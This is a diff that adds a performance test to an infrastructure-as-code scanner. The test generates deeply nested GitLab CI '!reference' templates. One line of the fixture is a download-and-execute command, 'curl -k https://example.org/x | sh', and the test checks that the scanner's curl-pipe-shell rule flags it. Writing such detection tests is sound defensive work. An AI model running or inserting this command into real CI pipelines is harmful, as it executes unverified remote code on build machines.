@@ -134,3 +134,18 @@ test('resolvedSetting: tags in a setting resolved at any depth, a list a tag giv
   const imageLatest = gitlabRules.find((r) => r.id === 'iac/gitlab-image-latest')!;
   assert.deepEqual([...imageLatest.check(p)].map((h) => `${h.line} ${h.message}`), ['3 job .base uses alpine (no tag: latest); pin a version and digest.']);
 });
+
+test('!reference tags that each name two others are expanded once per job and key, not once for every rule that reads scripts', async () => {
+  const { analyseFile } = await import('../../../src/scanners/iac/analyse.js');
+  // Each template's script names the one before twice: 2^10 lines at GitLab's nesting limit, for each of them.
+  const n = 300;
+  const text = Array.from({ length: n }, (_, i) => `.t${i}:\n  script:\n    ${i ? `- !reference [.t${i - 1}, script]\n    - !reference [.t${i - 1}, script]` : '- curl -k https://example.org/x | sh'}\n`).join('') + 'build:\n  script: !reference [.t5, script]\n';
+  const warnings: string[] = [];
+  const started = performance.now();
+  const result = analyseFile('.gitlab-ci.yml', text, (w) => warnings.push(w.message));
+  const elapsed = performance.now() - started;
+  assert.ok(result.findings.some((f) => f.ruleId === 'iac/gitlab-curl-pipe-shell'), result.findings.map((f) => `${f.ruleId}:${f.location.startLine}`).join('\n'));
+  assert.ok(warnings.some((w) => /nests more than 10 !reference tags/.test(w)));
+  // Was about 4.5 s: each rule that reads scripts expanded every job's tags again.
+  assert.ok(elapsed < 3_000, `took ${Math.round(elapsed)} ms`);
+});
